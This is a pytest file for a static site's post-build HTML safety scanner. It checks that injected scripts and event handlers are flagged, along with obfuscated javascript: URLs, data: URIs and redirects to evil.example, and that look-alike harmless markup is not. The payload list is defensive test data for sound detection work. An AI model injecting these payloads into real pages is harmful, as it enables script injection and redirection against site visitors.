"""The post-build scan: the real site is clean, every forbidden construct is found.

Forbidden constructs are injected into a copy of a page of the real built site, so
the scan sees them among the theme's own scripts, exactly as a hook, a theme
override or a plugin would publish them.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from casebook.cli import main
from casebook.safety import htmlscan
from casebook.safety.htmlscan import Allowlist, material_scripts, scan_site, scan_text
from casebook.safety.ids import CONTENT_END, CONTENT_START
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

site = pytest.mark.xdist_group("htmlscan")

#: (payload, the finding's code)
FORBIDDEN = [
    ("<script>alert(1)</script>", "script"),
    ("<SCRIPT>alert(1)</SCRIPT>", "script"),
    ("<script >alert(1)</script >", "script"),
    ('<script src="https://evil.example/x.js"></script>', "script"),
    ('<script src="//evil.example/x.js"></script>', "script"),
    ('<script src="../../cases/evil.js"></script>', "script"),
    ('<script src="../../assets/javascripts/missing.js"></script>', "script"),
    ('<script src="../../../../../etc/x.js"></script>', "script"),
    ('<script type="module">import("https://evil.example/x.js")</script>', "script"),
    ('<script type="text/x-template">x</script>', "script"),
    ('<script type="application/ld+json">alert(1)</script>', "script"),
    ('<script type="application/json" src="x.json"></script>', "script"),
    ('<script>__md_scope=new URL(".",location);alert(1)</script>', "script"),
    ('<svg><script href="x.js"></script></svg>', "script"),
    ("<script>alert(1)", "script"),
    ('<img src="x.png" onerror="alert(1)">', "event-handler"),
    ('<a title=">" onclick="alert(1)">x</a>', "event-handler"),
    ('<a title="<b>" onclick=alert(1)>x</a>', "event-handler"),
    ('<div OnMouseOver="alert(1)">x</div>', "event-handler"),
    ('<img/src="x.png"/onerror=alert(1)>', "event-handler"),
    ('<body onload="alert(1)">', "event-handler"),
    ('<svg><animate onbegin="alert(1)" attributeName="x"/></svg>', "event-handler"),
    ('<details open ontoggle="alert(1)"><summary>x</summary></details>', "event-handler"),
    ('<a href="javascript:alert(1)">x</a>', "script-url"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "script-url"),
    ('<a href="jav&#x61;script:alert(1)">x</a>', "script-url"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "script-url"),
    ('<a href="javascript&colon;alert(1)">x</a>', "script-url"),
    ('<a href="&#x0E; javascript:alert(1)">x</a>', "script-url"),
    ('<a href="java&Tab;script:alert(1)">x</a>', "script-url"),
    ('<a href="java\nscript:alert(1)">x</a>', "script-url"),
    ("<a href=javascript:alert(1)>x</a>", "script-url"),
    ("<a href='vbscript:msgbox(1)'>x</a>", "script-url"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "script-url"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "script-url"),
    ('<a href="file:///etc/passwd">x</a>', "script-url"),
    ('<form action="javascript:alert(1)"></form>', "script-url"),
    ('<button formaction="javascript:alert(1)">x</button>', "script-url"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "script-url"),
    ('<img srcset="a.png 1x, javascript:alert(1) 2x">', "script-url"),
    ('<video poster="javascript:alert(1)"></video>', "script-url"),
    ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "script-url"),
    ('<iframe src="https://example.org/"></iframe>', "forbidden-element"),
    ('<IFRAME SRC="https://example.org/"></IFRAME>', "forbidden-element"),
    ('<object data="x.swf"></object>', "forbidden-element"),
    ('<embed src="x.swf">', "forbidden-element"),
    ('<base href="https://evil.example/">', "forbidden-element"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "meta-refresh"),
    ('<meta HTTP-EQUIV="Refresh" content="0">', "meta-refresh"),
    ('<meta content="0" http-equiv="&#114;efresh">', "meta-refresh"),
]

#: Harmless markup that looks a little like the forbidden kind: never reported.
HARMLESS = [
    "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; onclick=\"x\" href=\"javascript:y\""
    "</code></pre>",
    "<p>Het onderwerp = belangrijk; src = x:y, on=1 en online=ja</p>",
    '<a href="https://example.org/?a=1&amp;b=2">x</a>',
    '<a href="HTTPS://example.org/">x</a>',
    '<a href="mailto:info@example.org">x</a>',
    '<a href="tel:+31201234567">x</a>',
    '<a href="../../organisations/x/#a:b">x</a>',
    '<a title="&lt;script&gt; en javascript:" href="#top">x</a>',
    '<img src="../../assets/images/x.png" srcset="x.png 1x, y.png 2x" alt="">',
    '<script type="application/ld+json">{"@context": "https://schema.org"}</script>',
    '<meta http-equiv="content-type" content="text/html; charset=utf-8">',
    '<span data-pagefind-filter="Land:Nederland">x</span>',
]


def _page(built_site: Path) -> tuple[str, str]:
    """A case page of the real site: its path below the site and its text."""
    page = sorted((built_site / "cases").glob("*/index.html"))[0]
    return page.relative_to(built_site).as_posix(), page.read_text(encoding="utf-8")


def _inject(text: str, payload: str) -> tuple[str, int]:
    """``payload`` on a line of its own before the end of the article; its line number."""
    head, sep, tail = text.partition("</article>")
    assert sep, "the page has no </article>"
    return f"{head}\n{payload}\n{sep}{tail}", head.count("\n") + 2


@site
def test_the_real_site_scans_clean(built_site: Path) -> None:
    findings, count = scan_site(built_site)
    assert findings == []
    pages = [p for p in built_site.rglob("*.html")]
    assert count == len(pages) > 50
    assert any(p.is_relative_to(built_site / "en") for p in pages)  # both languages


@site
def test_the_real_site_is_clean_when_parsed_in_full(built_site: Path) -> None:
    """The allowlist, not only the fast path, accepts every page."""
    allow = Allowlist()
    for page in htmlscan.site_files(built_site):
        rel = page.relative_to(built_site).as_posix()
        assert scan_text(page.read_text(encoding="utf-8"), rel, site=built_site, allow=allow,
                         thorough=True) == [], rel


@site
def test_real_pages_take_the_fast_path(built_site: Path) -> None:
    """Speed: a real page is settled by the quick search, not a full parse."""
    allow, memo = Allowlist(), {}
    pages = list(htmlscan.site_files(built_site))
    fast = 0
    for page in pages:
        rel = page.relative_to(built_site).as_posix()
        ctx = htmlscan._Context(built_site, rel, "", "", allow, memo)
        fast += htmlscan._fast_clean(page.read_bytes(), ctx)
    assert fast >= 0.9 * len(pages)


@site
@pytest.mark.parametrize(("payload", "code"), FORBIDDEN, ids=[p for p, _ in FORBIDDEN])
def test_forbidden_construct_is_found(built_site: Path, payload: str, code: str) -> None:
    rel, text = _page(built_site)
    injected, line = _inject(text, payload)
    findings = scan_text(injected, rel, site=built_site)
    assert code in {f.code for f in findings}, findings
    found = next(f for f in findings if f.code == code)
    assert (found.path, found.line) == (rel, line)
    assert found.format_text().startswith(f"{rel}:{line}:")
    assert "; " in found.message  # what was found; how to fix it


@site
@pytest.mark.parametrize("payload", HARMLESS)
def test_harmless_markup_is_not_reported(built_site: Path, payload: str) -> None:
    rel, text = _page(built_site)
    injected, _ = _inject(text, payload)
    assert scan_text(injected, rel, site=built_site) == []
    assert scan_text(injected, rel, site=built_site, thorough=True) == []


def test_material_scripts_are_recognised_whatever_their_strings() -> None:
    allowed = material_scripts()
    assert len(allowed) >= 2  # base.html and content.html at least
    script = ('<script>__md_scope=new URL("{}",location),__md_hash=e=>[...e].reduce(((e,_)=>'
              '(e<<5)-e+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>'
              'JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,'
              'a=__md_scope)=>{{try{{t.setItem(a.pathname+"."+e,JSON.stringify(_))}}'
              "catch(e){{}}}}</script>")
    assert scan_text(script.format("../.."), "a/b/index.html") == []
    assert scan_text(script.format("/casebook/"), "index.html") == []
    changed = script.format(".").replace("localStorage", "alert(1)||localStorage", 1)
    assert [f.code for f in scan_text(changed, "index.html")] == ["script"]


def test_site_url_path_is_the_site_root(tmp_path: Path) -> None:
    """With site_url set, Material's 404 page loads scripts from the site's path."""
    (tmp_path / "assets" / "javascripts").mkdir(parents=True)
    (tmp_path / "assets" / "javascripts" / "bundle.js").write_text("", encoding="utf-8")
    page = '<script src="/casebook/assets/javascripts/bundle.js"></script>'
    assert scan_text(page, "404.html", site=tmp_path,
                     site_url="https://example.org/casebook/") == []
    full = '<script src="https://example.org/casebook/assets/javascripts/bundle.js"></script>'
    assert scan_text(full, "404.html", site=tmp_path,
                     site_url="https://example.org/casebook/") == []
    assert scan_text(page, "404.html", site=tmp_path)  # without site_url: not in the site


# -- the fast path never hides what a full parse finds ---------------------------------

_PIECES = [
    "<p>", "</p>", "<a ", "<img ", "<div ", "<svg>", "<script>", "</script>", "<meta ",
    "<iframe>", "<base ", ">", "/>", " ", "\n", "\t", "/", '"', "'", "=", "&", "#", ";", ":",
    "on", "On", "click", "error", "href", "src", "srcset", "title", "action", "http-equiv",
    "refresh", "javascript", "JaVa", "script", "data", "https://", "x", "&#106;", "&colon;",
    "&#x0E;", "alert(1)", "text", "<!--", "-->", "style", "type", "application/json", "{}",
    # where an HTML5 parser and a naive one disagree
    "<style>", "</style >", "<noscript>", "</noscript>", "<template>", "<math>", "<!-->",
    "--!>", "\x00", "</script x>",
]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(_PIECES), max_size=30))
def test_fast_path_never_hides_a_finding(pieces: list[str]) -> None:
    text = "".join(pieces)
    if scan_text(text, "a/index.html", thorough=True):
        assert scan_text(text, "a/index.html"), text


# -- the command ------------------------------------------------------------------------


@site
def test_command_reports_clean_and_dirty_sites(built_site: Path, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    copy = tmp_path / "site"
    shutil.copytree(built_site, copy)
    assert main(["scan-html", str(copy)]) == 0
    assert "files scanned" in capsys.readouterr().out
    rel, text = _page(copy)
    injected, line = _inject(text, '<img src="x.png" onerror="alert(1)">')
    (copy / rel).write_text(injected, encoding="utf-8")
    assert main(["scan-html", str(copy)]) == 1
    out = capsys.readouterr().out
    assert f"{rel}:{line}:" in out and "event-handler" in out and "onerror" in out
    assert main(["scan-html", str(tmp_path / "missing")]) == 2
    assert "no such folder" in capsys.readouterr().err


def test_report_lists_a_repeated_problem_once() -> None:
    pages = [f"p{i}/index.html" for i in range(6)]
    findings = [f for rel in pages for f in scan_text("<script>alert(1)</script>", rel)]
    findings += scan_text('<a href="javascript:x">x</a>', "q/index.html")
    text = htmlscan.report(findings)
    lines = text.splitlines()
    assert lines[0].startswith("p0/index.html:1:1: script:")
    assert lines[1] == ("  the same in 5 other file(s): p1/index.html, p2/index.html, "
                        "p3/index.html and 2 more")
    assert lines[2].startswith("q/index.html:1:1: script-url:")
    assert htmlscan.report(findings, limit=1).splitlines()[-1] == "... and 1 more problem(s)"


@pytest.mark.parametrize("page", [
    '<html><head></head><body><!--> <meta http-equiv="refresh" content="0;url=https://e.example/">'
    " --></body></html>",
    '<html><head></head><body><!---> <meta http-equiv="refresh" content="0;url=https://e.example/">'
    " --></body></html>",
    '<html><head></head><body><!-- a --!> <meta http-equiv="refresh" '
    'content="0;url=https://e.example/"> --></body></html>',
])
def test_comments_end_where_a_browser_ends_them(page: str) -> None:
    findings = scan_text(page, "page.html", thorough=True)
    assert findings and any("refresh" in f.message for f in findings), findings


def test_ordinary_comments_still_hide_nothing_and_flag_nothing() -> None:
    page = ("<html><head></head><body><!-- a comment --><p>Tekst --&gt; en &lt;!--</p>"
            "</body></html>")
    assert scan_text(page, "page.html", thorough=True) == []


@pytest.mark.parametrize("element", ['<form action="https://e.example/"><input name="q"></form>',
                                     '<meta http-equiv="refresh" content="5">',
                                     '<link rel="stylesheet" href="https://e.example/x.css">',
                                     "<button>Go</button>"])
def test_navigation_and_form_elements_inside_an_entry_body_are_errors(element: str) -> None:
    page = (f'<html><head></head><body><form class="md-search__form"></form>{CONTENT_START}'
            f"<p>Tekst</p>{element}{CONTENT_END}</body></html>")
    for thorough in (False, True):
        findings = scan_text(page, "page.html", thorough=thorough)
        assert findings, (element, thorough)
    outside = page.replace(CONTENT_START, "").replace(CONTENT_END, "")
    assert [f for f in scan_text(outside, "page.html") if "form" in f.message] == []
